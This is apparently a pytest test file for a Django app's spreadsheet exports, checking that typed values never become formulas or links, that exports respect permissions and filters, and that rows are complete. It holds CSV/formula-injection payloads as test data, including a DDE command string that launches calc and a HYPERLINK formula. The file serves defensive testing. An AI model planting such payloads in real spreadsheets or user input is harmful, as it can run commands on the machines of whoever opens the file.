"""Sheets out: whatever is typed, no cell is a formula, and every text is as it was."""

import io
from datetime import date

import openpyxl
import pytest
from django.contrib import admin

from renda.models import Body, Deputy, Event, Membership, User
from renda.sheets import Column, sheet
from supervision.models import Opinion, Problem
from tests.conftest import HAND_OVER, noon
from tests.supervision.cast import handed, of, problems_of

MARKS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"点这里")')
PAYLOADS = [f"{mark}{end}" for mark in MARKS for end in ENDS]
LINKS = ["http://example.org", "mailto:a@example.org", "internal:Sheet1!A1", "external:c:\\a.xlsx"]


def opened(answer):
    content = answer if isinstance(answer, bytes) else b"".join(answer.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(answer):
    return [it for page in opened(answer) for row in page for it in row if it.value is not None]


def plain(text):
    """As Excel keeps a text: its end of a line is one character."""
    return str(text).replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n")


def rigid(found):
    """No cell is a formula or a link."""
    return [it.coordinate for it in found if it.data_type == "f" or it.hyperlink] == []


@pytest.mark.parametrize("payload", [*PAYLOADS, *LINKS, "00123", "1e10", "13900000001", "TRUE"])
def test_a_text_stays_a_text_and_the_same(payload):
    columns = [Column("=列", 10, str)]
    found = cells(sheet("=表", date(2026, 4, 2), columns, [payload], 1))
    assert rigid(found)
    assert [it.data_type for it in found] == ["s", "s"]
    assert plain(found[1].value) == plain(payload)


def test_days_are_days_and_numbers_numbers():
    columns = [Column("日", 10, lambda it: it[0]), Column("数", 10, lambda it: it[1])]
    day, moment = (date(2026, 4, 2), 3), (noon(HAND_OVER), 2.5)
    first, second = list(opened(sheet("表", day[0], columns, [day, moment], 2)).active)[1:]
    assert (first[0].is_date, first[0].value.date(), first[1].value) == (True, day[0], 3)
    assert (second[0].is_date, second[0].value.hour, second[1].value) == (True, 12, 2.5)


def test_a_sheet_that_was_cut_says_so():
    columns = [Column("名", 10, str)]
    assert (
        "共9行，只导出前1行" in cells(sheet("表", date(2026, 4, 2), columns, ["甲"], 9))[-1].value
    )


# Every sheet there is


PAGES = {  # who opens which page, and its sheets
    "/overview/": ("zhou", ("bodies", "months", "ahead")),
    "/record/": ("guan", ("record",)),
    "/notices/": ("gao", ("notices",)),
    "/parameters/": ("wu", ("parameters",)),
    "/calendar/2026/": ("wu", ("days",)),
    "/posts/": ("guan", ("silent", "ending")),
}


@pytest.fixture
def smuggled(county, act):
    """A county in which every word that can be typed looks like a formula."""
    opinion = handed(act, county)
    county.opinion, county.undertaking = opinion, of(opinion, county.water)
    county.problem = problems_of(opinion, county.water)[0]
    Deputy.objects.create(user=county.ma, congress=county.congress, from_on=date(2022, 1, 1))
    for place, payload in enumerate(PAYLOADS):
        _smuggle(county, payload, place)
    return county


def _smuggle(county, payload, place):
    bodies, people = list(Body.objects.order_by("pk")), list(User.objects.order_by("pk"))
    if place < len(bodies):
        Body.objects.filter(pk=bodies[place].pk).update(name=payload[:90])
    if place < len(people):
        User.objects.filter(pk=people[place].pk).update(name=payload[:30], phone=payload[:20])
    problems = list(Problem.objects.order_by("pk"))
    if place < len(problems):
        texts = dict.fromkeys(("text", "demand", "measure", "speaker"), payload[:30])
        Problem.objects.filter(pk=problems[place].pk).update(**texts)
    Opinion.objects.update(title=payload[:90])
    Deputy.objects.update(delegation=payload[:50], district=payload[:50])


@pytest.mark.parametrize(
    ("address", "who", "name"),
    [(page, who, name) for page, (who, names) in PAGES.items() for name in names],
)
def test_a_page_gives_its_tables_without_formulas(smuggled, act, address, who, name):
    answer = act.see(getattr(smuggled, who), f"{address}?sheet={name}", HAND_OVER)
    assert answer["Content-Type"].endswith("spreadsheetml.sheet")
    found = cells(answer)
    assert found and rigid(found)


@pytest.mark.parametrize(
    "address",
    [
        *(f"opinions/{{opinion.pk}}/?sheet={name}" for name in ("clocks", "problems", "log")),
        "undertakings/{undertaking.pk}/?sheet=log",
        "problems/{problem.pk}/?sheet=log",
        *(f"{name}s/export/" for name in ("opinion", "problem", "undertaking")),
    ],
)
def test_a_case_and_the_lists_give_theirs_without_formulas(smuggled, act, address):
    address = address.format(opinion=smuggled.opinion, undertaking=smuggled.undertaking,
                             problem=smuggled.problem)  # fmt: skip
    found = cells(act.see(smuggled.wu, f"/supervision/{address}", HAND_OVER))
    assert len(found) > 8 and rigid(found)
    assert any(it.value and str(it.value).lstrip()[:1] in "=+-@＝＋－＠" for it in found)


@pytest.mark.parametrize("name", sorted(it._meta.model_name for it in admin.site._registry))
def test_the_lists_of_the_office_go_out_without_formulas(smuggled, act, name):
    found = cells(act.see(smuggled.guan, f"/admin/renda/{name}/export/", HAND_OVER))
    assert found and rigid(found)


def test_the_office_takes_along_what_it_has_narrowed_down_and_no_more(county, act):
    answer = act.see(county.guan, "/admin/renda/body/export/?q=水利", HAND_OVER)
    names = [row[0].value for row in opened(answer).active]
    assert names == ["名称", "县水利局"]
    answer = act.see(county.guan, "/admin/renda/user/export/", HAND_OVER)
    assert county.yuan.name not in [row[0].value for row in opened(answer).active]
    answer = act.see(county.guan, "/admin/renda/membership/export/", HAND_OVER)
    here = Membership.objects.filter(body__congress=county.congress).count()
    assert opened(answer).active.max_row == here + 1


def test_a_sheet_is_only_for_whom_its_page_is(county, act):
    for person, page in (
        (county.gao, "/overview/"),
        (county.wu, "/record/"),
        (county.wu, "/posts/"),
    ):
        assert act.see(person, f"{page}?sheet={page.strip('/')}", HAND_OVER).status_code == 403


def test_what_a_page_shows_in_parts_its_sheet_holds_whole(county, act):
    for place in range(60):
        Event.objects.create(
            congress=county.congress, subject=county.water, name="change", label=f"变更{place}",
            actor=county.guan, at=noon(HAND_OVER), on=HAND_OVER, facts={"row": "县水利局"},
        )  # fmt: skip
    answer = act.see(county.guan, "/record/?sheet=record", HAND_OVER)
    labels = [row[1].value for row in opened(answer).active]
    assert {f"变更{place}" for place in range(60)} <= set(labels)
